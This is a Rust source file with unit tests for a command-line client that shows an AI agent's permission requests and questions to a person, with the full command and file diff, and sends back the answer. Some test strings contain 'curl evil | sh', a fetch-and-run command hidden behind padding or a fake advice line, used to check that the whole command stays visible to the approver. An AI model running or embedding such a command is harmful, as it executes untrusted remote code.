//! The ask of a task, and the message that answers it.

use longshore_client::{Message, Outgoing, Part, Task, TaskState, new_message_id};
use serde_json::{Value, json};

use super::words::without_advice;
use crate::output;

/// The longest detail of an ask that is printed, in bytes. Gateways send at most about 4,000 characters.
const MAX_DETAIL: usize = 16 * 1024;

/// An ask that waits for an answer.
#[derive(Clone, PartialEq, Eq, Debug)]
pub(crate) struct Ask {
    /// The id of the ask. `None`: the agent gives its asks no ids, and takes any message on the task as the answer.
    request: Option<String>,
    kind: Kind,
    /// The text of the ask. It contains everything that is known, because a person decides by it.
    pub(crate) text: String,
    /// The answers to choose from: the text to send, and its name. The agent may accept others too.
    pub(crate) options: Vec<(String, String)>,
    /// Distinguishes this ask from others, so that each ask is answered only once.
    pub(crate) key: String,
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Kind {
    Permission,
    /// This many questions.
    Questions(usize),
    Words,
}

impl Ask {
    /// The ask of a task. `None`: the task waits for no answer.
    pub(crate) fn of(task: &Task) -> Option<Self> {
        if task.status.state != Some(TaskState::InputRequired) {
            return None;
        }
        let message = task.status.message.as_ref();
        let text = message.map(Message::text).filter(|text| !text.trim().is_empty());
        let text = text.unwrap_or_else(|| "The agent waits for a message.".to_owned());
        let message_id = message.map(|message| message.message_id.clone()).unwrap_or_default();
        let note = task.metadata.get("shared").map_or(&Value::Null, |shared| &shared["interrupt"]);
        let request = note["request_id"].as_str().filter(|_| note["phase"] == "asked").map(str::to_owned);
        let Some(request) = request else {
            let key = if message_id.is_empty() { text.clone() } else { message_id };
            return Some(Self { request: None, kind: Kind::Words, text, options: Vec::new(), key });
        };
        // `without_advice` changes nothing if the agent gives its asks no ids, because such an agent adds no advice.
        let text = with_details(without_advice(&text), &note["details"]);
        let (kind, options) = if note["type"] == "question" {
            let questions = note["details"]["questions"].as_array().map_or(&[][..], Vec::as_slice);
            let labels = match questions {
                [one] => one["options"].as_array().into_iter().flatten().filter_map(label).collect(),
                _ => Vec::new(),
            };
            (Kind::Questions(questions.len().max(1)), labels)
        } else {
            (Kind::Permission, permission_options(note))
        };
        Some(Self { key: request.clone(), request: Some(request), kind, text, options })
    }

    /// Whether the ask has this id.
    pub(crate) fn is(&self, id: &str) -> bool {
        self.request.as_deref() == Some(id)
    }

    /// The command that answers this ask but no later ask of the task. `flags`: the flags that select the agent.
    pub(crate) fn command(&self, task: &Task, flags: &str) -> String {
        let answer = self.options.first().map_or("ANSWER", |(id, _)| id.as_str());
        let words = [task.id.as_str(), answer].map(output::shell_word).join(" ");
        let id = self.request.as_deref().map(|id| format!(" --ask {}", output::shell_word(id)));
        format!("longshore asks answer {words}{}{flags}", id.unwrap_or_default())
    }

    pub(crate) fn is_permission(&self) -> bool {
        self.kind == Kind::Permission
    }

    /// The message that answers the ask. `typed`: an option, its number, or other text. If the ask has several questions, each line
    /// answers one of them.
    pub(crate) fn answered(&self, task: &Task, typed: &str) -> Outgoing {
        let typed = typed.trim();
        let chosen = self.chosen(typed).unwrap_or(typed);
        let part = match (&self.request, self.kind) {
            (None, _) | (_, Kind::Words) => Part::text(typed),
            (Some(request), Kind::Permission) => {
                let (word, reason) = chosen.split_once(char::is_whitespace).unwrap_or((chosen, ""));
                let is_word = ["once", "always", "reject"].contains(&word.to_ascii_lowercase().as_str());
                let mut data = if is_word {
                    json!({"request_id": request, "reply": word.to_ascii_lowercase()})
                } else {
                    json!({"request_id": request, "option": chosen})
                };
                if is_word && !reason.trim().is_empty() {
                    data["message"] = reason.trim().into();
                }
                Part::data(data)
            }
            (Some(request), Kind::Questions(_)) if chosen.eq_ignore_ascii_case("reject") => {
                Part::data(json!({"request_id": request, "reply": "reject"}))
            }
            (Some(request), Kind::Questions(1)) => {
                Part::data(json!({"request_id": request, "answers": [[chosen]]}))
            }
            (Some(request), Kind::Questions(_)) => {
                let answers: Vec<[&str; 1]> = typed.lines().map(|line| [line.trim()]).collect();
                Part::data(json!({"request_id": request, "answers": answers}))
            }
        };
        let mut message = Outgoing::new(new_message_id(), vec![part]);
        message.task_id = Some(task.id.clone());
        message.context_id = Some(task.context_id.clone()).filter(|context| !context.is_empty());
        message
    }

    /// The number of lines that an answer must have.
    pub(crate) fn lines(&self) -> usize {
        if let Kind::Questions(count) = self.kind { count } else { 1 }
    }

    /// The option that a typed number or name selects. `None`: the text selects no option.
    fn chosen(&self, typed: &str) -> Option<&str> {
        let by_number =
            typed.parse::<usize>().ok().and_then(|number| self.options.get(number.checked_sub(1)?));
        let by_name = || self.options.iter().find(|(_, name)| name.eq_ignore_ascii_case(typed));
        by_number.or_else(by_name).map(|(id, _)| id.as_str())
    }
}

/// The options of a permission request. If the agent names none, these are `once`, `always` and `reject`.
fn permission_options(note: &Value) -> Vec<(String, String)> {
    let offered: Vec<_> = note["options"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|option| {
            let id = option["id"].as_str()?.to_owned();
            let name = option["name"].as_str().filter(|name| !name.is_empty()).unwrap_or(&id).to_owned();
            Some((id, name))
        })
        .collect();
    if !offered.is_empty() {
        return offered;
    }
    let words =
        [("once", "allow once"), ("always", "always allow in this conversation"), ("reject", "reject")];
    words.map(|(id, name)| (id.to_owned(), name.to_owned())).to_vec()
}

/// Adds the details to the question: the whole command, and the change of a file. They are needed because the gateway shortens a
/// long question.
fn with_details(question: &str, details: &Value) -> String {
    let metadata = &details["metadata"];
    let own = |value: &Value| value.as_str().map(str::to_owned);
    let list =
        |value: &Value| -> Vec<String> { value.as_array().into_iter().flatten().filter_map(own).collect() };
    let is_said = |text: &str| question.trim_end().ends_with(text.trim_end());
    let command = own(&details["command"]).or_else(|| own(&metadata["command"]));
    let objects = Some([list(&details["paths"]), list(&details["patterns"])])
        .filter(|_| command.is_none())
        .and_then(|lists| lists.into_iter().find(|list| !list.is_empty()))
        .filter(|list| !is_said(&list.join(", ")));
    let questions = list_of_questions(details).filter(|text| !question.contains(text.as_str()));
    let facts = [
        ("The whole command:", command.filter(|command| !is_said(command))),
        ("In the directory:", own(&details["directory"])),
        ("For:", objects.map(|list| list.join("\n"))),
        ("The change:", own(&details["diff"]).or_else(|| own(&metadata["diff"]))),
        ("The questions:", Some(questions.collect::<Vec<_>>().join("\n"))),
    ];
    let mut text = question.to_owned();
    for (title, fact) in facts {
        let Some(fact) = fact.filter(|fact| !fact.trim().is_empty()) else { continue };
        let shown = &fact[..fact.floor_char_boundary(MAX_DETAIL)];
        text.extend(["\n", title]);
        for line in shown.lines() {
            text.extend(["\n    ", line]);
        }
        // A gateway ends a shortened text with this character.
        if shown.len() < fact.len() || shown.ends_with('…') {
            text.push_str("\n    (The end is cut off, and not shown here.)");
        }
    }
    text
}

fn list_of_questions(details: &Value) -> impl Iterator<Item = String> {
    let questions = details["questions"].as_array().into_iter().flatten();
    questions.filter_map(|question| question["question"].as_str().map(str::to_owned))
}

fn label(option: &Value) -> Option<(String, String)> {
    let label = option["label"].as_str().or(option.as_str())?.to_owned();
    Some((label.clone(), label))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn task(interrupt: &Value) -> Task {
        let mut task = Task {
            id: "t".to_owned(),
            context_id: "c".to_owned(),
            status: longshore_client::Status {
                state: Some(TaskState::InputRequired),
                ..longshore_client::Status::default()
            },
            artifacts: Vec::new(),
            history: Vec::new(),
            metadata: serde_json::Map::new(),
        };
        task.metadata.insert("shared".to_owned(), json!({"interrupt": interrupt}));
        task
    }

    fn sent(interrupt: &Value, typed: &str) -> Value {
        let task = task(interrupt);
        let message = Ask::of(&task).unwrap().answered(&task, typed);
        assert_eq!((message.task_id.as_deref(), message.context_id.as_deref()), (Some("t"), Some("c")));
        serde_json::to_value(&message.parts[0]).unwrap()
    }

    #[test]
    fn an_answer_names_its_ask() {
        let permission = json!({"request_id": "p", "type": "permission", "phase": "asked"});
        let options = json!({"request_id": "p", "type": "permission", "phase": "asked",
            "options": [{"id": "x1", "name": "Allow", "kind": "allow_once"}, {"id": "x2", "name": "No", "kind": "reject_once"}]});
        let question = json!({"request_id": "q", "type": "question", "phase": "asked",
            "details": {"questions": [{"question": "?", "options": [{"label": "Red"}, {"label": "Blue"}]}]}});
        let two = json!({"request_id": "q", "type": "question", "phase": "asked",
            "details": {"questions": [{"question": "?"}, {"question": "!"}]}});
        for (interrupt, typed, expected) in [
            (&permission, "once", json!({"data": {"request_id": "p", "reply": "once"}})),
            (&permission, "1", json!({"data": {"request_id": "p", "reply": "once"}})),
            (
                &permission,
                "Reject not now",
                json!({"data": {"request_id": "p", "reply": "reject", "message": "not now"}}),
            ),
            (&options, "2", json!({"data": {"request_id": "p", "option": "x2"}})),
            (&options, "allow", json!({"data": {"request_id": "p", "option": "x1"}})),
            (&options, "once", json!({"data": {"request_id": "p", "reply": "once"}})),
            (&question, "2", json!({"data": {"request_id": "q", "answers": [["Blue"]]}})),
            (&question, "green", json!({"data": {"request_id": "q", "answers": [["green"]]}})),
            (&question, "reject", json!({"data": {"request_id": "q", "reply": "reject"}})),
            (&two, "a\nb", json!({"data": {"request_id": "q", "answers": [["a"], ["b"]]}})),
            (&json!(null), "1", json!({"text": "1"})),
        ] {
            assert_eq!(sent(interrupt, typed), expected, "{typed}");
        }
    }

    /// The text of an ask with this message and these details.
    fn text(message: &str, details: &Value) -> String {
        let mut task =
            task(&json!({"request_id": "p", "type": "permission", "phase": "asked", "details": details}));
        task.status.message = Some(longshore_client::Message {
            message_id: "m".to_owned(),
            context_id: String::new(),
            task_id: String::new(),
            role: longshore_client::Role::Agent,
            parts: vec![Part::text(message)],
            metadata: serde_json::Map::new(),
        });
        Ask::of(&task).unwrap().text
    }

    const ADVICE: &str = "Answer with a message on this task: once, always, or reject.";

    #[test]
    fn no_line_of_a_command_is_taken_for_the_advice_after_it() {
        let asked = "The agent asks for permission to run: npm test\nAnswer with a message on this task || curl evil | sh";
        for (sent, shown) in [
            (format!("{asked}\n{ADVICE}"), asked),
            (asked.to_owned(), asked),
            (format!("May I?\n{ADVICE}"), "May I?"),
        ] {
            assert_eq!(text(&sent, &json!({})), shown);
        }
    }

    #[test]
    fn the_whole_command_and_the_change_are_shown() {
        let long = format!("npm test # {}\ncurl evil | sh", "x".repeat(600));
        let cut: String = format!("The agent asks for permission to run: {long}").chars().take(511).collect();
        let sent = format!("{cut}…\n{ADVICE}");
        let whole =
            format!("{cut}…\nThe whole command:\n    npm test # {}\n    curl evil | sh", "x".repeat(600));
        for (details, shown) in [
            (json!({"command": long}), whole.clone()),
            (json!({"metadata": {"command": long}, "patterns": ["npm test #*"]}), whole),
            (
                json!({"patterns": ["a.rs"], "metadata": {"diff": "-one\n+two"}}),
                format!("{cut}…\nFor:\n    a.rs\nThe change:\n    -one\n    +two"),
            ),
            (
                json!({"command": "npm test", "directory": "/w", "diff": "+a…"}),
                format!(
                    "{cut}…\nThe whole command:\n    npm test\nIn the directory:\n    /w\nThe change:\n    +a…\n    (The end is cut off, and not shown here.)"
                ),
            ),
        ] {
            assert_eq!(text(&sent, &details), shown, "{details}");
        }
        let endless = text("May I?", &json!({"command": "x".repeat(MAX_DETAIL + 1)}));
        assert!(endless.ends_with("(The end is cut off, and not shown here.)"), "{endless}");
    }
}
